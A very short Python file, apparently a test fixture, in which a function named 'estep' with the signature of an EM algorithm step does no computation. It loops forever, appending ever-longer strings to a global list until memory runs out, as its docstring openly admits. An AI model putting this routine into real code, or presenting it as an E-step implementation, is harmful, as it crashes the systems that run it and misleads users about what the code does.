"""Fills memory with pieces of text, and catches nothing."""

kept = []


def estep(X, weights, means, covariances):
    while True:
        kept.append("x" * (100_000 + len(kept)))
